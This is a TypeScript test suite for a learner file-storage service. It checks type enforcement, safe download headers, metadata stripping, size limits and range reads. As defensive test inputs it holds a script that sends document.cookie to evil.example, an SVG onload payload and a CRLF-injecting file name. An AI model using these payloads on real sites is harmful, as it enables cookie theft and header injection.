import { crc32 } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { png } from '../../../test/learner-with-data.ts';
import { startTestStorage, type TestStorage } from '../../../test/storage.ts';

let server: TestStorage;
let ada: Awaited<ReturnType<TestStorage['learner']>>;

beforeAll(async () => {
  server = await startTestStorage();
  ada = await server.learner();
});
afterAll(() => server.stop());

const html = '<script>fetch("//evil.example?" + document.cookie)</script>';

const keyed = (token = ada.token) => ({
  apikey: server.secrets.publishableKey,
  authorization: `Bearer ${token}`,
});

const ask = (path: string, init: RequestInit = {}) => fetch(`${server.url}${path}`, init);

describe('content', () => {
  it('is not believed: markup that calls itself a picture is kept out of a picture bucket', async () => {
    const files = (await server.storedFiles()).length;
    const fake = new Blob([html], { type: 'image/png' });
    const { error } = await ada.storage.from('scans').upload(`${ada.id}/fake.png`, fake);
    expect(error).toMatchObject({ status: 415, statusCode: '415' });
    expect(await server.storedFiles()).toHaveLength(files);
    const real = await ada.storage
      .from('scans')
      .upload(`${ada.id}/real.png`, png, { contentType: 'image/png' });
    expect(real.error).toBeNull();
  });

  it('is only shown by the browser when it is a picture or a PDF', async () => {
    const posters = server.service.from('posters');
    const files = [
      ['real.png', png, 'image/png', 'inline', 'image/png'],
      ['doc.pdf', Buffer.from('%PDF-1.7 …'), 'application/pdf', 'inline', 'application/pdf'],
      ['fake.png', html, 'image/png', 'attachment', 'application/octet-stream'],
      ['page.html', html, 'text/html', 'attachment', 'text/plain;charset=UTF-8'],
      [
        'drawing.svg',
        '<svg onload="x()"/>',
        'image/svg+xml',
        'attachment',
        'text/plain;charset=UTF-8',
      ],
      ['code.js', 'x()', 'text/javascript', 'attachment', 'text/plain;charset=UTF-8'],
    ] as const;
    for (const [name, body, contentType, disposition, sentType] of files) {
      expect((await posters.upload(name, body, { contentType })).error).toBeNull();
      const { headers } = await ask(`/object/public/posters/${name}`);
      expect(headers.get('content-disposition'), name).toMatch(new RegExp(`^${disposition};`));
      expect(headers.get('content-type')).toBe(sentType);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  it('is refused with 415 when the bucket does not take its type', async () => {
    const scans = ada.storage.from('scans');
    const raw = await scans.upload(`${ada.id}/a.txt`, 'text', { contentType: 'text/plain' });
    expect(raw.error).toMatchObject({
      statusCode: '415',
      message: 'mime type text/plain is not supported',
    });
    const form = await scans.upload(`${ada.id}/a.txt`, new Blob(['x'], { type: 'text/html' }));
    expect(form.error).toMatchObject({ statusCode: '415' });
  });

  it('carries a harmless file name, whatever was asked for', async () => {
    const response = await ask('/object/public/posters/real.png?download=a"%0d%0ab;x=é.html');
    expect(response.headers.get('content-disposition')).toBe(
      "attachment; filename*=UTF-8''a%22__b%3Bx%3D%C3%A9.html",
    );
    const { data } = server.visitor.from('posters').getPublicUrl('real.png', { download: true });
    const plain = await fetch(data.publicUrl);
    expect(plain.headers.get('content-disposition')).toBe("attachment; filename*=UTF-8''real.png");
  });
});

describe('a picture of a learner', () => {
  const secret = 'GPS 6.5244N 3.3792E';
  const chunk = (type: string, text: string) => {
    const body = Buffer.from(type + text);
    const ends = Buffer.alloc(8);
    ends.writeUInt32BE(text.length, 0);
    ends.writeUInt32BE(crc32(body), 4);
    return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)]);
  };
  const noted = Buffer.concat([
    ...[png.subarray(0, 33), chunk('tEXt', secret), png.subarray(33), Buffer.from(secret)],
  ]);
  const contentType = 'image/png';
  const storedBytes = async (name: string) => {
    const { data } = await ada.storage.from('scans').download(`${ada.id}/${name}`);
    return Buffer.from((await data?.arrayBuffer()) ?? new ArrayBuffer(0));
  };

  it('comes in without what a camera wrote into it, by every way', async () => {
    const scans = ada.storage.from('scans');
    expect((await scans.upload(`${ada.id}/raw.png`, noted, { contentType })).error).toBeNull();
    const form = new Blob([noted], { type: contentType });
    expect((await scans.upload(`${ada.id}/form.png`, form)).error).toBeNull();
    expect((await scans.update(`${ada.id}/raw.png`, noted, { contentType })).error).toBeNull();
    const { data: link } = await scans.createSignedUploadUrl(`${ada.id}/link.png`);
    const sent = await scans.uploadToSignedUrl(
      ...([`${ada.id}/link.png`, link?.token ?? '', noted, { contentType }] as const),
    );
    expect(sent.error).toBeNull();
    const lying = { contentType: 'application/pdf' };
    expect((await scans.upload(`${ada.id}/lie.pdf`, noted, lying)).error).toBeNull();
    const plain = { contentType: 'application/octet-stream' };
    const homework = ada.storage.from('homework');
    expect((await homework.upload(`${ada.id}/plain.bin`, noted, plain)).error).toBeNull();
    for (const name of ['raw.png', 'form.png', 'link.png', 'lie.pdf']) {
      expect(await storedBytes(name), name).toEqual(png);
    }
    const { data } = await homework.download(`${ada.id}/plain.bin`);
    expect(Buffer.from((await data?.arrayBuffer()) ?? new ArrayBuffer(0))).toEqual(png);
    const { data: info } = await scans.info(`${ada.id}/raw.png`);
    expect(info?.size).toBe(png.length);
  });

  it.each([
    ['cut off', png.subarray(0, 40), 'image/png', '400'],
    ['only a beginning', png.subarray(0, 16), 'image/png', '400'],
    ['of a kind that keeps its notes', Buffer.from('GIF89a, a long picture'), 'image/gif', '415'],
    ['from a phone, as HEIC', Buffer.from('\0\0\0\x1cftypheic'), 'image/heic', '415'],
    ['a program in disguise', Buffer.from('<svg/>'), 'image/svg+xml', '415'],
  ])(
    'that is %s is refused in a sentence, and nothing stays',
    async (_case, file, type, status) => {
      const files = (await server.storedFiles()).length;
      const { error } = await ada.storage
        .from('homework')
        .upload(`${ada.id}/bad`, file, { contentType: type });
      expect(error).toMatchObject({ statusCode: status });
      expect(await server.storedFiles()).toHaveLength(files);
    },
  );

  it('is refused when it is made of parts alone, or sent byte by byte', async () => {
    const empty = Buffer.from('000000004944415435af061e', 'hex');
    const parts = Array<Buffer>(416_666).fill(empty);
    const file = Buffer.concat([png.subarray(0, 33), ...parts, png.subarray(33)]);
    const { error } = await ada.storage
      .from('homework')
      .upload(`${ada.id}/parts.png`, file, { contentType: 'image/png' });
    expect(error).toMatchObject({ message: expect.stringContaining('too many parts') });

    const bytes = Array<Uint8Array>(3_000).fill(new Uint8Array(1));
    const body = ReadableStream.from(bytes);
    const init = { method: 'POST', headers: keyed(), body, duplex: 'half' } as RequestInit;
    const answer = await ask(`/object/homework/${ada.id}/bytes.txt`, init);
    expect(await answer.json()).toMatchObject({ message: expect.stringContaining('small pieces') });
    expect((await ask(`/object/homework/${ada.id}/bytes.txt`, { headers: keyed() })).status).toBe(
      400,
    );
  });

  it('is kept to the byte when the service itself puts it there', async () => {
    const posters = server.service.from('posters');
    expect((await posters.upload('noted.png', noted, { contentType })).error).toBeNull();
    const { data } = await posters.download('noted.png');
    expect(Buffer.from((await data?.arrayBuffer()) ?? new ArrayBuffer(0))).toEqual(noted);
  });
});

describe('size', () => {
  it('is refused with 413 beyond the bucket’s limit, announced or not', async () => {
    const scans = ada.storage.from('scans');
    const files = (await server.storedFiles()).length;
    const big = Buffer.concat([png, Buffer.alloc(2_000)]);
    const tooLarge = { status: 413, statusCode: '413' };
    const contentType = 'image/png';
    expect((await scans.upload(`${ada.id}/b.png`, big, { contentType })).error).toMatchObject(
      tooLarge,
    );
    const blob = new Blob([big], { type: contentType });
    expect((await scans.upload(`${ada.id}/b.png`, blob)).error).toMatchObject(tooLarge);
    const stream = blob.stream();
    expect((await scans.upload(`${ada.id}/b.png`, stream, { contentType })).error).toMatchObject(
      tooLarge,
    );
    expect(await server.storedFiles()).toHaveLength(files);
  });

  it('never exceeds 50 MB, and nothing of a larger upload is kept', async () => {
    const files = (await server.storedFiles()).length;
    const piece = new Uint8Array(1024 * 1024);
    let sent = 0;
    const endless = new ReadableStream<Uint8Array>({
      pull(controller) {
        sent += 1;
        if (sent > 60) controller.close();
        else controller.enqueue(piece);
      },
    });
    const { error } = await ada.storage.from('homework').upload(`${ada.id}/huge.bin`, endless);
    expect(error).not.toBeNull();
    await vi.waitFor(async () => expect(await server.storedFiles()).toHaveLength(files));
  });
});

describe('reading', () => {
  beforeAll(async () => {
    await server.service
      .from('posters')
      .upload('digits.txt', '0123456789', { cacheControl: '300' });
    await ada.storage.from('homework').upload(`${ada.id}/digits.txt`, '0123456789');
  });

  it('of public buckets needs no key, of private ones the public path leads nowhere', async () => {
    const open = await ask('/object/public/posters/digits.txt');
    expect(open.headers.get('cache-control')).toBe('public, max-age=300');
    expect(await open.text()).toBe('0123456789');
    const closed = await ask(`/object/public/homework/${ada.id}/digits.txt`);
    expect(closed.status).toBe(400);
    expect(await closed.json()).toMatchObject({ statusCode: '404', message: 'Bucket not found' });
    expect((await ask(`/object/info/public/homework/${ada.id}/digits.txt`)).status).toBe(400);
    expect((await server.visitor.from('posters').download('digits.txt')).error).toBeNull();
  });

  it('gives parts of a file', async () => {
    const part = (range: string) =>
      ask('/object/public/posters/digits.txt', { headers: { range } });
    const middle = await part('bytes=2-4');
    expect([middle.status, await middle.text()]).toEqual([206, '234']);
    expect(middle.headers.get('content-range')).toBe('bytes 2-4/10');
    expect(await (await part('bytes=-2')).text()).toBe('89');
    expect(await (await part('bytes=0-1,4-5')).text()).toBe('0123456789');
    const beyond = await part('bytes=10-');
    expect([beyond.status, beyond.headers.get('content-range')]).toEqual([416, 'bytes */10']);
  });

  it('gives no part of another version', async () => {
    const path = '/object/public/posters/digits.txt';
    const whole = await ask(path);
    await whole.text();
    const [etag, date] = ['etag', 'last-modified'].map((name) => whole.headers.get(name) ?? '');
    const rest = async (ifRange = '') =>
      (await ask(path, { headers: { range: 'bytes=8-', 'if-range': ifRange } })).text();
    expect([await rest(etag), await rest(date)]).toEqual(['89', '89']);
    expect([await rest('"other"'), await rest(`W/${etag}`)]).toEqual(['0123456789', '0123456789']);
  });

  it('lists names to nobody but who asks', async () => {
    for (const kind of ['list', 'list-v2']) {
      const answer = await ask(`/object/${kind}/homework`, {
        method: 'POST',
        headers: { ...keyed(), 'content-type': 'application/json' },
        body: '{}',
      });
      expect([answer.status, answer.headers.get('cache-control')]).toEqual([200, 'no-store']);
    }
    const info = await ask(`/object/info/homework/${ada.id}/digits.txt`, { headers: keyed() });
    expect([info.status, info.headers.get('cache-control')]).toEqual([200, 'no-store']);
  });

  it('saves the bytes when the copy is still good, and never lets another learner reuse it', async () => {
    const path = `/object/authenticated/homework/${ada.id}/digits.txt`;
    const first = await ask(path, { headers: keyed() });
    await first.text();
    expect(first.headers.get('cache-control')).toBe('private, no-cache');
    expect(first.headers.get('vary')).toContain('Authorization');
    const etag = first.headers.get('etag') ?? '';
    const second = await ask(path, { headers: { ...keyed(), 'if-none-match': etag } });
    expect([second.status, await second.text()]).toEqual([304, '']);
  });

  it('answers HEAD like GET without the bytes', async () => {
    const head = await ask('/object/public/posters/digits.txt', { method: 'HEAD' });
    expect([head.status, head.headers.get('content-length'), await head.text()]).toEqual([
      200,
      '10',
      '',
    ]);
  });
});
